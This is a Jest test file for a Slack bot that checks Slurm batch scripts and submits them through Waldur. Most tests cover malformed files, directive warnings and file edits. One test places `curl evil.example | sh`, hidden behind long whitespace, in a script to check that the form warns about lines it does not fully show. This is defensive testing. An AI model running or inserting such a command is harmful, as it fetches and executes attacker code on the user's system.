import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { JOBS } from '../../sandbox/slack/world.ts';
import {
  asksWaldur,
  connect,
  logged,
  refIn,
  script,
  sees,
  seesModal,
  share,
  shown,
  startWorld,
  submitFrom,
  type World,
} from './world.ts';

/** Scripts are read as docs/slurm.md says that a real Slurm reads each of them. */
let world: World;
const GPU = 'bio-gpu · 82 % of GPU hours used';

beforeAll(async () => {
  world = await startWorld({ environment: { MAX_SCRIPT_BYTES: '5000' } });
});
beforeEach(async () => {
  await Promise.all([connect(world, world.ana, 'ana'), connect(world, world.ben, 'ben')]);
});
afterEach(() => world.startOver());
afterAll(() => world.stop());

const sha256 = (content: string) => createHash('sha256').update(content).digest('hex');
const bytes = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
let files = 0;
function fileName() {
  files += 1;
  return `script-${files}.sh`;
}

/** The scripts sent to Waldur since a request of the ledger. */
async function sent(after: number) {
  const requests = await world.waldur.requests(after);
  return requests.filter(({ method, path }) => method === 'POST' && path === '/api/slurm-jobs/');
}
const soFar = async () => (await world.waldur.requests()).length;

describe('is refused before Waldur is asked', () => {
  const shebang =
    'The first line must start with #! and the path of an interpreter, for instance #!/bin/bash.';
  test.each<[string, string | Uint8Array, string]>([
    ['an empty file', '', 'The file is empty.'],
    ['blank space only', ' \n\t\n', 'The file has nothing but blank space in it.'],
    ['no #!', 'echo hello\n', shebang],
    [
      'a blank line before #!',
      '\n#!/bin/bash\n',
      'There is blank space before #!. These must be the first two characters of the script.',
    ],
    [
      'a byte order mark',
      '\ufeff#!/bin/bash\necho\n',
      'An invisible byte order mark stands before #!, so Slurm does not see it. Save the script as UTF-8 without BOM.',
    ],
    [
      'UTF-16',
      bytes('\xff\xfe#\0!\0'),
      'The file is UTF-16 text, which Slurm cannot read. Save it as UTF-8.',
    ],
    [
      'a binary',
      bytes('\x7fELF\x02\x01\x01\0\0\xff'),
      'This is not a text file, so it is no batch script.',
    ],
    [
      'a NUL character',
      '#!/bin/bash\necho \0\n',
      'There is a NUL character in the script, which Slurm refuses.',
    ],
    [
      'Latin-1',
      bytes('#!/bin/bash\necho \xe9\n'),
      'The script is not UTF-8 text, which the cluster’s interface cannot take. Save it as UTF-8.',
    ],
    [
      'a web page',
      '<!DOCTYPE html>\n<html><body>#!/bin/bash</body></html>\n',
      'This is a web page, not a script. Where it came from, look for the raw file.',
    ],
  ])('%s', async (_what, content, sentence) => {
    const { ana } = world;
    const name = fileName();
    const asked = await asksWaldur(world, async () => {
      const prompt = await share(ana, 'dm', { name, content });
      expect(prompt.text).toBe(`${name} cannot be submitted as it is: ${sentence}`);
      expect(shown(prompt)).toContain('Correct the file and share it again.');
      expect(shown(prompt)).not.toContain('"button"');
    });
    expect(asked).toEqual([]);
  });

  test('too many bytes: it is not even fetched', async () => {
    const { ana, slack } = world;
    const name = fileName();
    const downloads = async () =>
      (await slack.ledger()).filter(({ kind }) => kind === 'download').length;
    const before = await downloads();
    const prompt = await share(ana, 'dm', { name, content: `#!/bin/bash\n${'#'.repeat(5000)}` });
    expect(prompt.text).toMatch(
      /^script-\d+\.sh could not be read\. The script is too large \(it has 5\.0 kB\): at most 5\.0 kB are taken\. Put data into files of its own\. \(ref \w+\)$/,
    );
    expect(await logged(world, refIn(prompt.text))).toHaveLength(1);
    expect(await downloads()).toBe(before);
  });

  test('in the form as well: it says so, and has nothing to submit', async () => {
    const { ana } = world;
    const { ts } = await ana.say('dm', '', { files: [{ name: fileName(), content: 'echo\n' }] });
    const asked = await asksWaldur(world, async () => {
      await ana.shortcut('submit', 'dm', ts);
      const modal = await seesModal(ana, shebang);
      expect(modal.submit).toBeNull();
      await ana.closeModal();
    });
    expect(asked).toEqual(['GET /api/slurm-allocations/ 200']);
  });

  test('in the upload field: the form comes back, and nothing was sent', async () => {
    const { ana } = world;
    await ana.command('dm', '/slurm submit');
    await seesModal(ana, 'Batch script');
    await ana.suggest('Allocation', '');
    const asked = await asksWaldur(world, async () => {
      await ana.submit({
        'Batch script': [{ name: 'bad.sh', content: 'echo\n' }],
        Name: 'typed',
        Allocation: GPU,
        Description: 'kept',
      });
      const modal = await seesModal(ana, `${shebang} Nothing was submitted.`);
      expect(await logged(world, refIn(shown(modal)))).toHaveLength(1);
      for (const part of ['"initial_value":"typed"', '"initial_value":"kept"', `"text":"${GPU}"`]) {
        expect(shown(modal)).toContain(part);
      }
    });
    expect(asked).toEqual([]);
    await ana.closeModal();
  });
});

const lines = (...list: string[]) => ['#!/bin/bash', ...list, 'sleep 1', ''].join('\n');

describe('is a warning with its lines, in the prompt and in the form', () => {
  test.each<[string, string, string]>([
    [
      'late',
      lines('set -e', '#SBATCH --mem=4G', '#SBATCH -n 4'),
      'Lines 3 and 4: Slurm ignores this, since it comes after the first command (line 2). Move it up.',
    ],
    [
      'lookalike',
      lines('# SBATCH --mem=4G'),
      'Line 2: Slurm ignores the line: only one that begins with exactly #SBATCH counts.',
    ],
    [
      'foreign',
      lines('#PBS -N other'),
      'Line 2: Slurm reads #PBS lines, too. If they are left from another cluster, take them out.',
    ],
    [
      'minutes',
      lines('#SBATCH --time=1:00'),
      'Line 2: --time=1:00 means 1 min. For hours write `1:00:00`.',
    ],
    ['megabytes', lines('#SBATCH --mem=64'), 'Line 2: --mem=64 means 64 MB. Did you mean 64G?'],
    [
      'variable',
      lines('#SBATCH --output=$HOME/x'),
      'Line 2: Slurm does not replace variables in directives: --output=$HOME/x is taken as it is written.',
    ],
    [
      'job name',
      lines('#SBATCH --job-name="No such file"'),
      'Line 2: With "No such file" in a job name the cluster’s listing counts as failed, and Waldur loses sight of all your jobs. Choose another name.',
    ],
    [
      'cr',
      '#!/bin/bash\recho\r',
      'The lines end with CR alone (old Mac line endings): Slurm takes them for one line, and the job fails at once. Save the script with Unix line endings.',
    ],
  ])('%s', async (_kind, content, sentence) => {
    const { ana } = world;
    const prompt = await share(ana, 'dm', { name: fileName(), content });
    expect(texts(prompt.blocks)).toContain(sentence);
    await ana.click('dm', prompt.ts, 'Submit…');
    const modal = await seesModal(ana, 'Allocation');
    expect(texts(modal.blocks)).toContain(sentence);
    await ana.closeModal();
  });

  test('the three worst stand in the prompt, and all in the form', async () => {
    const { ana } = world;
    const content = lines(
      '#SBATCH --output=$HOME/x',
      '#SBATCH --mem=64 --parsable',
      '#SBATCH --time=0 -A <account>',
    );
    const prompt = await share(ana, 'dm', { name: fileName(), content });
    const shownHere = texts(prompt.blocks).filter((text) => text.startsWith('Line'));
    expect(shownHere.map((text) => text.slice(0, 20))).toEqual([
      'Line 3: --parsable h',
      'Line 3: --mem=64 mea',
      'Line 2: Slurm does n',
    ]);
    expect(texts(prompt.blocks)).toContain('And 2 more in the form.');
    await ana.click('dm', prompt.ts, 'Submit…');
    const modal = await seesModal(ana, 'Allocation');
    expect(texts(modal.blocks).filter((text) => text.startsWith('Line'))).toHaveLength(5);
    await ana.closeModal();
  });
});

describe('what Slurm refuses of options can be submitted anyway, since a plugin may know better', () => {
  const sentence =
    'sbatch itself has no option --container-image, but a plugin of your cluster may add it.';
  const content = lines('#SBATCH -J plugged --container-image=x');

  test('from the prompt', async () => {
    const { ana } = world;
    const prompt = await share(ana, 'dm', { name: 'plugged.sh', content });
    expect(prompt.text).toBe(`Slurm would refuse plugged.sh. ${sentence}`);
    expect(shown(prompt)).not.toContain('"Submit…"');
    const before = await soFar();
    await ana.click('dm', prompt.ts, 'Submit anyway…');
    const modal = await seesModal(ana, 'Allocation');
    expect(texts(modal.blocks)).toContain(`Line 2: ${sentence}`);
    await ana.suggest('Allocation', '');
    await ana.submit({ Allocation: GPU });
    await seesModal(ana, 'Submitted plugged.');
    await ana.closeModal();
    expect(await sent(before)).toHaveLength(1);
  });

  test('exactly as it is', async () => {
    const { ana } = world;
    const odd = `${content}printf "\u{1f980}é\r\t" #\u00a0 \n\n\n#SBATCH --walltime=1\n  no newline`;
    const prompt = await share(ana, 'dm', { name: 'odd.sh', content: odd });
    await ana.click('dm', prompt.ts, 'Submit anyway…');
    await seesModal(ana, 'Allocation');
    await ana.suggest('Allocation', '');
    const before = await soFar();
    await ana.submit({ Allocation: GPU });
    await seesModal(ana, 'Submitted plugged.');
    await ana.closeModal();
    expect((await sent(before)).map(({ file }) => file?.sha256)).toEqual([sha256(odd)]);
  });

  describe('but not a file that has become impossible', () => {
    const impossible: [string, string][] = [
      ['has lost its first line', 'hostname\n'],
      ['has got DOS line endings', content.replaceAll('\n', '\r\n')],
      ['was emptied', ''],
      ['has got a NUL', `${content}\0`],
    ];

    test.each(impossible)('it %s before the button is pressed', async (_what, now) => {
      const { ana, slack } = world;
      const prompt = await share(ana, 'dm', { name: fileName(), content });
      await slack.editFile(prompt.fileId, now);
      const before = await soFar();
      await ana.click('dm', prompt.ts, 'Submit anyway…');
      const modal = await seesModal(ana, 'cannot be submitted as it is');
      expect(modal.submit).toBeNull();
      expect(shown(modal)).not.toContain('anyway');
      await ana.closeModal();
      expect(await sent(before)).toEqual([]);
    });

    test.each(impossible)('it %s before the form is handed in', async (_what, now) => {
      const { ana, slack } = world;
      const prompt = await share(ana, 'dm', { name: fileName(), content });
      await ana.click('dm', prompt.ts, 'Submit anyway…');
      await seesModal(ana, 'Allocation');
      await ana.suggest('Allocation', '');
      await slack.editFile(prompt.fileId, now);
      const before = await soFar();
      await ana.submit({ Allocation: GPU });
      // The form that comes back takes another file, or offers to convert this one.
      await seesModal(ana, /"Batch script"|Convert line endings/);
      await ana.closeModal();
      expect(await sent(before)).toEqual([]);
    });
  });

  test('from the upload field it comes back once, with the reason', async () => {
    const { ana } = world;
    await ana.command('dm', '/slurm submit');
    await seesModal(ana, 'Batch script');
    await ana.suggest('Allocation', '');
    const before = await soFar();
    await ana.submit({ 'Batch script': [{ name: 'plugged.sh', content }], Allocation: GPU });
    const modal = await seesModal(ana, `${sentence} Nothing was submitted.`);
    expect(texts(modal.blocks)).toContain(`Line 2: ${sentence}`);
    expect(await sent(before)).toEqual([]);
    await ana.submit({ Name: 'plugged' });
    await seesModal(ana, 'Submitted plugged.');
    await ana.closeModal();
    expect(await sent(before)).toHaveLength(1);
  });
});

/** Every text in blocks, as a person reads it. */
function texts(blocks: unknown): string[] {
  if (Array.isArray(blocks)) return blocks.flatMap(texts);
  if (typeof blocks !== 'object' || blocks === null) return [];
  return Object.entries(blocks).flatMap(([key, value]) =>
    key === 'text' && typeof value === 'string' ? [value] : texts(value),
  );
}

test('the prompt tells what the script asks for, and takes the name from it, else from the file', async () => {
  const { ana } = world;
  const options = ['partition=gpu', 'nodes=2', 'time=04:00:00', 'mem=32G', 'array=1-10'];
  const directives = options.map((option) => `#SBATCH --${option}`);
  const content = ['#!/bin/bash', ...directives, 'srun ./x', ''].join('\n');
  const prompt = await share(ana, 'dm', { name: 'my job.final.sh', content });
  expect(prompt.text).toBe('my job.final.sh is ready to submit as "my job.final"');
  expect(texts(prompt.blocks)).toContain(
    '`my job.final.sh` as *my job.final* — gpu · 2 nodes · 32 GB per node · 4 h · array 1–10',
  );
});

describe('DOS line endings', () => {
  const dos = script('dosjob', 1).replaceAll('\n', '\r\n');

  test('are refused, converted on demand, and the converted bytes are sent', async () => {
    const { ana } = world;
    const prompt = await share(ana, 'dm', { name: 'dos.sh', content: dos });
    expect(prompt.text).toBe(
      'dos.sh cannot be submitted as it is: The script has DOS line endings (CR LF), which Slurm refuses.',
    );
    await ana.click('dm', prompt.ts, 'Convert line endings');
    const ready = await sees(ana, 'dm', 'dos.sh is ready to submit as "dosjob"');
    expect(ready.ts).toBe(prompt.ts);
    expect(shown(ready)).toContain('DOS line endings are converted before it is sent.');
    const unix = script('dosjob', 1);
    const before = await soFar();
    await submitFrom(ana, 'dm', ready);
    await seesModal(ana, 'Submitted dosjob.');
    await ana.closeModal();
    expect(await sent(before)).toEqual([
      expect.objectContaining({
        file: { filename: 'dos.sh', bytes: unix.length, sha256: sha256(unix) },
      }),
    ]);
  });
});

describe('a file that changes', () => {
  test('between prompt and form: the form says so and shows what it is now, which is what is sent', async () => {
    const { ana } = world;
    const { prompt, id } = await shareFile('between.sh', script('before', 1));
    const now = script('after', 1, '# edited');
    await world.slack.editFile(id, now);
    await ana.click('dm', prompt.ts, 'Submit…');
    const modal = await seesModal(
      ana,
      'The file has changed since the bot first read it. This is what it is now.',
    );
    expect(shown(modal)).toContain('# edited');
    expect(shown(modal)).toContain('"initial_value":"after"');
    const before = await soFar();
    await ana.suggest('Allocation', '');
    await ana.submit({ Allocation: GPU });
    await seesModal(ana, 'Submitted after.');
    await ana.closeModal();
    expect((await sent(before)).map(({ file }) => file?.sha256)).toEqual([sha256(now)]);
  });

  test('between form and sending: nothing is sent, and the form comes back with the new file', async () => {
    const { ana } = world;
    const { prompt, id } = await shareFile('late.sh', script('late', 1));
    await ana.click('dm', prompt.ts, 'Submit…');
    await seesModal(ana, 'Allocation');
    const now = script('late', 1, '# edited again');
    await world.slack.editFile(id, now);
    const before = await soFar();
    await ana.suggest('Allocation', '');
    await ana.submit({ Name: 'my own name', Allocation: GPU });
    const modal = await seesModal(
      ana,
      'The file has changed since it was shown to you. Nothing was submitted: look at it as it is now, and submit again.',
    );
    expect(await logged(world, refIn(shown(modal)))).toHaveLength(1);
    expect(shown(modal)).toContain('# edited again');
    expect(shown(modal)).toContain('"initial_value":"my own name"');
    expect(await sent(before)).toEqual([]);
    await ana.submit();
    await seesModal(ana, 'Submitted my own name.');
    await ana.closeModal();
    expect((await sent(before)).map(({ file }) => file?.sha256)).toEqual([sha256(now)]);
  });
});

async function shareFile(name: string, content: string) {
  const { ana } = world;
  const said = await ana.say('dm', '', { files: [{ name, content }] });
  const prompt = await sees(ana, 'dm', new RegExp(`^${name} is ready`));
  return { prompt, id: said.files[0]?.id ?? '' };
}

test('a script that someone else shared runs as the person who submits it, and the form says so', async () => {
  const { ana, ben } = world;
  const prompt = await share(ana, JOBS, {
    name: 'shared.sh',
    content: script('shared', 1),
    text: '<@U0SLURMBOT>',
  });
  await ben.click(JOBS, prompt.ts, 'Submit…');
  const modal = await seesModal(ben, 'Allocation');
  expect(texts(modal.blocks)).toContain('Shared by <@U0ANA00001>. It will run as you.');
  expect(texts(modal.blocks)).toContain('It will run as you (ben).');
  const before = await soFar();
  await ben.suggest('Allocation', '');
  await ben.submit({ Allocation: 'climate-2026 · 41 % of CPU hours used' });
  await seesModal(ben, 'Submitted shared.');
  await ben.closeModal();
  expect((await sent(before)).map(({ as }) => as)).toEqual(['ben']);
  const card = await sees(ana, JOBS, /^\S+ shared — /);
  expect(shown(card)).toMatch(/ · Ben /);
  await sees(ana, JOBS, /^✔ `shared\.sh`/);
  await ana.click(JOBS, prompt.ts, 'Submit again…');
  expect(texts((await seesModal(ana, 'Allocation')).blocks)).not.toContain(
    'Shared by <@U0ANA00001>. It will run as you.',
  );
  await ana.closeModal();
});

test('the form says what of a script it does not show, where all of it is, and who will read along', async () => {
  const { ana, ben } = world;
  const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
  const content = `${script('hiding', 1)}${hiding}\n${'echo\n'.repeat(50)}${hiding}\n`;
  const prompt = await share(ana, JOBS, { name: 'hiding.sh', content, text: '<@U0SLURMBOT>' });
  await ben.click(JOBS, prompt.ts, 'Submit…');
  const said = texts((await seesModal(ben, 'Allocation')).blocks).join('\n');
  expect(said).toMatch(/\necho hello {190}…\n/);
  expect(said).toMatch(
    /1 line above is longer than shown here\. \d+ more lines, 1 of them longer than shown here\. Read <https:\/\/\S+\/hiding\.sh\|the whole file>\./,
  );
  expect(said).toContain('Read the whole file first: 2 lines are longer than what is shown here');
  expect(said).toContain(`People in <#${JOBS}> will see its name, state and error`);
  await ben.closeModal();
});

test('a name that breaks the cluster’s listing is refused in the form, under its field', async () => {
  const { ana } = world;
  const prompt = await share(ana, 'dm', { name: 'named.sh', content: script('named', 1) });
  await ana.click('dm', prompt.ts, 'Submit…');
  await seesModal(ana, 'Allocation');
  const before = await soFar();
  await ana.suggest('Allocation', '');
  const refused = await ana.submit({ Name: 'no such file', Allocation: GPU });
  expect(refused.errors).toEqual({
    name: 'With "No such file" in a job name the cluster’s listing counts as failed, and Waldur loses sight of all your jobs. Choose another name.',
  });
  expect(await sent(before)).toEqual([]);
  await ana.submit({ Name: 'a better name' });
  await seesModal(ana, 'Submitted a better name.');
  await sees(ana, 'dm', / a better name — /);
  await ana.closeModal();
});
